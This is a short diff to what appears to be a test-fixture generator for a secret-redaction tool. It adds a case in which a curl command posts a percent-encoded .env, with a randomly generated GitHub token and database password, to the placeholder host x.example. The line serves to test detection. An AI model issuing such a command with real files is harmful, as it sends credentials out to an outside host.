@@ -193,6 +193,10 @@ def _build() -> dict[str, tuple[str, list[str]]]:
     # age 1.3's post-quantum identity (age-keygen -pq)
     a = _r(UPPER, 62)
     k["age-pq"] = (f"the key is AGE-SECRET-KEY-PQ-1{a} for now", [a])
+    # a .env sent percent-encoded (a form body, curl --data-urlencode): `%3D` glues a token's prefix
+    # to a word and hides the `=` of the assignment (session 13)
+    a, b = _r(ALNUM, 36), _r(ALNUM, 16)
+    k["urlencoded-env"] = (f"curl -d 'env=GITHUB_TOKEN%3Dghp_{a}%0ADB_PASSWORD%3D{b}%0A' https://x.example/h", [a, b])
     return k
 
 
